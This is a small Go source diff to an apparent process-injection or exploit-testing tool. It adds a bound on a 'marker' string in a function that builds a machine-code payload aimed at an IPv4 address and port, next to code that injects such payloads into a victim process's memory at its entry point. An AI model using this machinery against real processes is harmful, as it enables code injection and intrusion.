@@ -43,6 +43,9 @@ import (
 // so ran it.
 const PayloadExit = 77
 
+// MaxMarker bounds the marker, which makes the payload longer.
+const MaxMarker = 40
+
 // Step is one attempt on the victim.
 type Step struct {
 	Name  string `json:"name"`
@@ -211,6 +214,12 @@ func inject(mem *os.File, pid int, entry uintptr, code []byte, sigtramp uintptr,
 func Payload(dst netip.AddrPort, marker string) ([]byte, error) {
 	if !dst.Addr().Is4() {
 		return nil, fmt.Errorf("payload: %s is not IPv4", dst)
+	}
+	// What follows the entry point is overwritten too: in a Go binary of
+	// today, code that never runs without cgo (runtime.sigprofNonGoWrapper)
+	// for some 140 bytes past _rt0_amd64_linux.
+	if len(marker) > MaxMarker {
+		return nil, fmt.Errorf("payload: a marker of %d bytes (at most %d)", len(marker), MaxMarker)
 	}
 	const (
 		leaSA  = 21 // lea rsi, [rip+sa]: the instruction's offset
